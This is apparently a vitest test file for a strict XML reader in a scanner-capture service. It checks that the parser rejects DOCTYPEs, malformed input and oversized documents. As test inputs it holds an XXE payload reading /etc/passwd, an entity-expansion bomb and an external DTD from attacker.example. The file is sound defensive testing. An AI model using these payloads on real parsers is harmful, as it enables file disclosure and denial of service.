import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { childNamed, parseXml, textAt, XmlError } from '../../../src/main/services/capture/scanners/xml-reader'

function xmlError(input: string | Uint8Array, limits?: Parameters<typeof parseXml>[1]): XmlError {
  try {
    parseXml(input, limits)
  } catch (error) {
    expect(error).toBeInstanceOf(XmlError)
    return error as XmlError
  }
  throw new Error(`parsed: ${String(input).slice(0, 80)}`)
}

describe('the strict XML reader for scanner documents', () => {
  it('reads elements by local name, attributes, text with entities, character references and CDATA', () => {
    const root = parseXml(
      '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- status -->\n<scan:Status xmlns:scan="urn:x" a=\'1\'><pwg:State>Idle</pwg:State><scan:Note>A &amp; B &lt;&#x1EA1;&#7841;&gt; <![CDATA[<raw & kept>]]></scan:Note><scan:Empty/></scan:Status>\n',
    )
    expect(root).toMatchObject({ name: 'Status', qualifiedName: 'scan:Status' })
    expect(root.attributes.get('a')).toBe('1')
    expect(textAt(root, 'State')).toBe('Idle')
    expect(textAt(root, 'Note')).toBe('A & B <ạạ> <raw & kept>')
    expect(childNamed(root, 'Empty')?.children).toEqual([])
  })

  it('refuses a DOCTYPE in any form: no DTD, no external entity, no entity expansion', () => {
    const attacks = [
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;</r>',
      '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
    ]
    for (const attack of attacks) expect(xmlError(attack).code, attack).toBe('forbidden')
    expect(xmlError('<r>&custom;</r>').code).toBe('forbidden')
    expect(xmlError('<r><?php evil ?></r>').code).toBe('forbidden')
    expect(xmlError('<r><!ELEMENT x ANY></r>').code).toBe('forbidden')
  })

  it('refuses documents that are not well-formed', () => {
    const malformed = ['', 'Idle', '<r>', '<r></s>', '<r><a></r></a>', '<r a="1" a="2"/>', '<r a=1/>', '<r a="<"/>', '<r/><s/>', '<r>&#0;</r>', '<r>&#xZZ;</r>', '<r>&amp</r>', '< r/>', '<r><!-- a -- b --></r>', '<r>\u0001</r>', '<?xml version="1.0" encoding="ISO-8859-1"?><r/>']
    for (const text of malformed) expect(xmlError(text).code, JSON.stringify(text)).toBe('malformed')
    expect(xmlError(Uint8Array.from([0x3c, 0x72, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x72, 0x3e])).code).toBe('malformed')
  })

  it('refuses documents over its size, depth and element limits', () => {
    const limits = { maxBytes: 1000, maxDepth: 4, maxElements: 10 }
    expect(xmlError(`<r>${'x'.repeat(1000)}</r>`, limits).code).toBe('tooLarge')
    expect(xmlError('<a><b><c><d><e/></d></c></b></a>', limits).code).toBe('tooLarge')
    expect(xmlError(`<r>${'<i/>'.repeat(10)}</r>`, limits).code).toBe('tooLarge')
    expect(parseXml('<a><b><c><d/></c></b></a>', limits).name).toBe('a')
  })

  it('never throws anything but an XmlError, whatever it is given', () => {
    const pieces = fc.constantFrom('<', '>', '/', '=', '"', "'", '&', ';', '#', 'x', 'a:b', ' ', '!', '?', '[', ']', '-', '<!--', '-->', '<![CDATA[', ']]>', '<?xml ', '&amp;', '&#65;', '<r>', '</r>', '\u0000', 'é')
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        try {
          parseXml(parts.join(''))
        } catch (error) {
          if (!(error instanceof XmlError)) throw error
        }
      }),
      { numRuns: 3000 },
    )
  })
})
